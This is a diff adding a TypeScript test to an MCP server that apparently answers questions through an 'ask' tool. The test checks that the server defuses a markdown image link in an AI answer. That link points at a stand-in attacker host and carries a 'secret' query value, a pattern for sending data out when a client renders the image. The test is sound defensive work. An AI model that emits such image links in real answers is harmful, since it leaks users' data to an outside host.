@@ -111,6 +111,21 @@ describe("the tools of POST /mcp", () => {
     });
   });
 
+  it("load no image where a client shows an answer", async () => {
+    const answerer = {
+      async *answer() {
+        yield {
+          type: "done",
+          answer: { ...answer, answer: "![c](https://evil.example/?q=secret)" },
+        } as const;
+      },
+    };
+    const call = toolCall("ask", { question: "Hello?" });
+    expect((await textOf(call, { answerer })).text).toMatch(/^! \[c\]\(https/);
+    const { result } = await post(call, { answerer });
+    expect(result?.["structuredContent"]).toMatchObject({ answer: "! [c](https://evil.example/?q=secret)" });
+  });
+
   it("link to PUBLIC_URL where there is one", async () => {
     const site = { ...config.site, publicUrl: "https://docs.example.com/help", basePath: "/help" };
     const { text } = await textOf(toolCall("ask", { question: "Hello?" }), { config: { ...config, site } });
